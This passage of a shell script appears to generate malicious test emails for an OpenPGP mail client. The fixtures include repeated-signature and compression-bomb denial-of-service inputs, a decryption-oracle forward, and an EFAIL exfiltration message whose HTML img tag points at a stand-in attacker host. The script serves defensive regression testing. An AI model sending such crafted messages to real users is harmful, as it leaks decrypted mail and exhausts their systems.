clearsign_variant inline-clearsign-alice-text-after-end "Cleartext signed by Alice, text after the END line" \
  '/^-----END PGP SIGNATURE-----$/a P.S. The meeting moved to Friday, room 9. (This line is not signed.)'

# 40 recipients, the demo user's key last (issue 7): 39 throwaway keys made
# in the temporary GNUPGHOME (their secrets vanish with it).
rcpts=()
for i in $(seq 1 39); do
  g --quick-gen-key "Other Recipient $i <other$i@popcrypt.invalid>" future-default default never
  rcpts+=(-r "other$i@popcrypt.invalid")
done
crlf <"$tmp/plain.txt" | encrypt "$tmp/c" "${rcpts[@]}" -r "$DEMO"
pkesks=$(gpg --batch --list-packets --list-only <"$tmp/c" 2>/dev/null | grep ':pubkey enc packet:')
demo_enc=$(gpg --batch --with-colons --list-keys "$DEMO" | awk -F: '$1=="sub" && $12 ~ /e/ {print $5; exit}')
[ "$(printf '%s\n' "$pkesks" | wc -l)" = 40 ] && printf '%s\n' "$pkesks" | tail -n1 | grep -q "keyid $demo_enc" ||
  { echo "regenerate.sh: the 40-recipient message does not end with the demo user's PKESK" >&2; exit 1; }
{ headers "$ALICE_ADDR" "$DEMO_ADDR" "Encrypted to 40 recipients, the demo user last" pgpmime-enc-40-recipients-ours-last
  pgpmime_encrypted "$tmp/c"; } | emit pgpmime-enc-40-recipients-ours-last

# Many copies of one signature packet (issue 7: quadratic CPU). gpg makes
# one detached signature by Mallory (whose key nobody holds); the input
# repeats that packet. 1,000 copies in a PGP/MIME signature (about 200 kB;
# the test builds 5,000 at run time from this one), and 5,000 inside an
# encrypted message (PGP 2.x order: signatures, then the literal data;
# gpg --no-literal encrypts the packets as they are, compressed).
g --detach-sign -u "$MALLORY" <"$tmp/entity.canon" >"$tmp/one.sig"
repeat() { # FILE N
  local i
  for ((i = 0; i < $2; i++)); do cat "$1"; done
}
repeat "$tmp/one.sig" 1000 | gpg --batch --enarmor 2>/dev/null |
  sed -e 's/PGP ARMORED FILE/PGP SIGNATURE/' -e '/^Comment: /d' >"$tmp/many.asc"
[ "$(gpg --batch --list-packets <"$tmp/many.asc" 2>/dev/null | grep -c ':signature packet:')" = 1000 ] ||
  { echo "regenerate.sh: the repeated signature does not hold 1000 packets" >&2; exit 1; }
{ headers "$MALLORY_ADDR" "$DEMO_ADDR" "1,000 copies of one signature by Mallory" pgpmime-signed-mallory-1000-copies
  pgpmime_signed "$tmp/entity.canon" "$tmp/many.asc" pgp-sha256; } | emit pgpmime-signed-mallory-1000-copies

crlf <"$tmp/plain.txt" | g --store -z 0 >"$tmp/literal"
{ repeat "$tmp/one.sig" 5000; cat "$tmp/literal"; } | g --no-literal --armor --encrypt -r "$DEMO" \
  2> >(grep -v -- '--no-literal is not for normal use' >&2) >"$tmp/c"
{ headers "$MALLORY_ADDR" "$DEMO_ADDR" "Encrypted, 5,000 copies of one signature by Mallory inside" \
    pgpmime-enc-mallory-5000-signature-copies
  pgpmime_encrypted "$tmp/c"; } | emit pgpmime-enc-mallory-5000-signature-copies

# --- ciphertext inside the attacker's message (issue 8) ----------------------
# EFAIL direct exfiltration, PGP/MIME: a ciphertext the attacker captured,
# between two HTML parts whose markup would carry the plaintext to his
# server if a client decrypted the part in place and joined the parts.
crlf <"$tmp/plain.txt" | encrypt "$tmp/c" -r "$DEMO"
{ headers "$MALLORY_ADDR" "$DEMO_ADDR" "EFAIL direct exfiltration (PGP/MIME)" efail-direct-exfiltration-pgpmime
  printf 'Content-Type: multipart/mixed; boundary="------------efail-0123456789"\n\n'
  printf -- '--------------efail-0123456789\nContent-Type: text/html; charset=us-ascii\n\n'
  printf '<html><body><img src="http://efail.attacker.invalid/\n'
  printf -- '--------------efail-0123456789\n'
  pgpmime_encrypted "$tmp/c"
  printf -- '--------------efail-0123456789\nContent-Type: text/html; charset=us-ascii\n\n'
  printf '"></body></html>\n'
  printf -- '--------------efail-0123456789--\n'; } | emit efail-direct-exfiltration-pgpmime

# Decryption oracle: the demo user's own encrypted message, forwarded back
# to him inside Mallory's mail, asking for a reply that would quote it.
{ headers "$ALICE_ADDR" "$DEMO_ADDR" "The original encrypted message" oracle-original
  pgpmime_encrypted "$tmp/c"; } >"$tmp/original.eml"
{ headers "$MALLORY_ADDR" "$DEMO_ADDR" "Fwd: please confirm" oracle-encrypted-message-forwarded
  printf 'Content-Type: multipart/mixed; boundary="------------fwd-0123456789"\n\n'
  printf -- '--------------fwd-0123456789\nContent-Type: text/plain; charset=us-ascii\n\n'
  printf 'Could you confirm what the attached message says? Just reply with it quoted.\n'
  printf -- '--------------fwd-0123456789\nContent-Type: message/rfc822\n\n'
  cat "$tmp/original.eml"
  printf -- '--------------fwd-0123456789--\n'; } | emit oracle-encrypted-message-forwarded

# Compression bomb: 64 MiB of one repeated line, compressed twice (gpg
# --store -z 9 makes compressed(literal); --no-literal encrypts that packet
# as it is, compressed once more): a few kB of ciphertext.
{ printf 'Content-Type: text/plain; charset=us-ascii\r\n\r\n'
  perl -e '$l = "All work and no play makes Jack a dull boy. All work and no play.\r\n";
            print $l x int((64 << 20) / length $l)'; } |
  g --store -z 9 --compress-algo zlib >"$tmp/bomb-inner"
g --no-literal --armor --encrypt -z 9 --compress-algo zlib -r "$DEMO" <"$tmp/bomb-inner" \
  2> >(grep -v -- '--no-literal is not for normal use' >&2) >"$tmp/c"
[ "$(g --list-packets <"$tmp/c" 2>/dev/null | grep -c ':compressed packet:')" = 2 ] ||
  { echo "regenerate.sh: the compression bomb is not compressed twice" >&2; exit 1; }
{ headers "$MALLORY_ADDR" "$DEMO_ADDR" "Encrypted, 64 MiB compressed twice into a few kB" pgpmime-enc-compression-bomb
  pgpmime_encrypted "$tmp/c"; } | emit pgpmime-enc-compression-bomb

echo "regenerated $(ls "$cases"/*.eml | wc -l) cases in $cases"
